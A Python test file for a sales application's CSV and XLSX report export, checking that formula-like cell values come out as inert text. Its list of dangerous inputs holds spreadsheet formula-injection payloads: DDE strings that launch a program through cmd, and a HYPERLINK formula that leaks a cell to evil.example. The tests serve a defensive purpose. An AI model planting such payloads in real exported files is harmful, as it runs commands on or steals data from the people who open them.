"""Reports as files: opened again, and never run by a spreadsheet."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal
from typing import Any
from xml.etree import ElementTree

import pytest
from httpx import AsyncClient

from api.reporting.files import XLSX, as_csv, as_xlsx
from api.reporting.table import Kind, Period, Report, column
from domain.base import Language, Text

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
LANGUAGES: tuple[Language, ...] = ("ru", "en")
PERIOD = Period(date(2026, 3, 1), date(2026, 3, 31))
DANGEROUS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1;"click")',
    "+7 900 000-00-00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＠SUM(1)",
)
HARMLESS = (
    "Ромашка",
    "a=b",
    "",
    "'quoted",
    "10",
    'ООО «Рога; "копыта"»',
    "http://example.com",
    "две\nстроки",
    "<b>",
)


def report(*values: Any, kind: Kind = "text") -> Report:
    """A report of one column."""
    return Report(
        "r",
        Text(ru="Отчёт", en="Report"),
        (column("value", "Зн", "Value", kind),),
        [{"value": v} for v in values],
    )


def cells(book: bytes) -> list[list[tuple[str, str]]]:
    """(type, text) of each cell of the first sheet; there is no formula, link or script anywhere in the book."""
    with zipfile.ZipFile(io.BytesIO(book)) as parts:
        names = parts.namelist()
        everything = b"".join(parts.read(name) for name in names)
        sheet = ElementTree.fromstring(parts.read("xl/worksheets/sheet1.xml"))
        strings = ElementTree.fromstring(parts.read("xl/sharedStrings.xml"))
    assert not [name for name in names if "vba" in name.lower() or "external" in name.lower()]
    assert not list(sheet.iter(f"{MAIN}f"))
    assert not list(sheet.iter(f"{MAIN}hyperlink"))
    assert b"<f>" not in everything
    texts = ["".join(part.text or "" for part in one.iter(f"{MAIN}t")) for one in strings.iter(f"{MAIN}si")]
    return [
        [
            (cell.get("t", "n"), texts[int(value)] if cell.get("t") == "s" else value)
            for cell in row
            for value in [cell.findtext(f"{MAIN}v") or ""]
        ]
        for row in sheet.iter(f"{MAIN}row")
    ]


def rows_of_csv(text: str, language: Language = "ru") -> list[list[str]]:
    assert text.startswith("\ufeff")
    separator = ";" if language == "ru" else ","
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator))


@pytest.mark.parametrize("value", DANGEROUS)
def test_what_a_spreadsheet_would_run_is_only_text(value: str) -> None:
    for language in LANGUAGES:
        assert rows_of_csv(as_csv(report(value), language, language), language) == [["value"], [f"'{value}"]]
    ((_,), ((kind, kept),)) = cells(as_xlsx(report(value), PERIOD, "ru"))
    assert (kind, kept.replace("_x000D_", "\r")) == ("s", value)


@pytest.mark.parametrize("value", HARMLESS)
def test_what_is_harmless_comes_out_as_it_was(value: str) -> None:
    for language in LANGUAGES:
        assert rows_of_csv(as_csv(report(value), language, language), language)[1:] == [[value]]
    kept = [cell for row in cells(as_xlsx(report(value), PERIOD, "ru"))[1:] for cell in row]
    assert kept == [("s", value)]


def test_numbers_and_days_are_numbers_and_days() -> None:
    for kind, value, kept in (
        ("money", Decimal("1250000.05"), "1250000.05"),
        ("whole", 7, "7"),
        ("percent", 12.5, "0.125"),
        ("hours", -1.25, "-1.25"),
        ("day", date(2026, 3, 4), "46085"),
    ):
        ((_,), (cell,)) = cells(as_xlsx(report(value, kind=kind), PERIOD, "en"))  # type: ignore[arg-type]
        assert cell == ("n", kept)
        assert rows_of_csv(as_csv(report(value, kind=kind), "en"), "en")[1] == [str(value)]  # type: ignore[arg-type]
    assert rows_of_csv(as_csv(report(None, kind="money"), "en"), "en")[1] == [""]


def test_csv_has_the_separators_of_the_language() -> None:
    columns = (
        column("title", "Что", "What"),
        column("sum", "Сумма", "Sum", "money"),
        column("day", "День", "Day"),
    )
    items = [{"title": "А, Б; В", "sum": Decimal("-1250.05"), "day": date(2026, 3, 4)}]
    made = Report("r", Text(ru="Отчёт", en="Report"), columns, items)
    assert as_csv(made, "ru", "ru") == '\ufefftitle;sum;day\r\n"А, Б; В";-1250,05;2026-03-04\r\n'
    assert (
        as_csv(made, "ru") == as_csv(made, "en") == '\ufefftitle,sum,day\r\n"А, Б; В",-1250.05,2026-03-04\r\n'
    )


def test_a_text_longer_than_a_cell_is_cut() -> None:
    (_, ((_, kept),)) = cells(as_xlsx(report("я" * 40_000), PERIOD, "ru"))
    assert len(kept) == 32_767


def test_words_are_in_the_language_asked_for() -> None:
    made = report(Text(ru="Этап", en="Stage"))
    assert cells(as_xlsx(made, PERIOD, "ru")) == [[("s", "Зн")], [("s", "Этап")]]
    assert cells(as_xlsx(made, PERIOD, "en")) == [[("s", "Value")], [("s", "Stage")]]
    assert rows_of_csv(as_csv(made, "en"), "en") == [["value"], ["Stage"]]


@pytest.mark.parametrize("name", ["conversion", "stage-time", "losses", "deadlines", "task-time", "payments"])
async def test_each_report_goes_out_in_three_formats(sales: AsyncClient, name: str) -> None:
    await sales.post("/api/deals", json={"pipeline": "fulfilment.quote", "title": "=1+1"})
    asked = {"from": "2020-01-01", "to": "2199-12-31", "lang": "ru"}
    told = (await sales.get(f"/api/reports/{name}", params=asked)).json()
    as_text = await sales.get(f"/api/reports/{name}", params={**asked, "format": "csv"})
    assert as_text.headers["content-type"] == "text/csv; charset=utf-8"
    assert (
        as_text.headers["content-disposition"] == f'attachment; filename="{name}-2020-01-01-2199-12-31.csv"'
    )
    head, *rows = rows_of_csv(as_text.text)
    assert head == [one["name"] for one in told["columns"]]
    assert len(rows) == len(told["items"])
    as_book = await sales.get(f"/api/reports/{name}", params={**asked, "format": "xlsx"})
    assert as_book.headers["content-type"] == XLSX
    titles, *lines = cells(as_book.content)
    shown = [one for one in told["columns"] if one["kind"] != "raw"]
    assert [text for _, text in titles] == [one["title"]["ru"] for one in shown]
    assert len(lines) == len(told["items"])
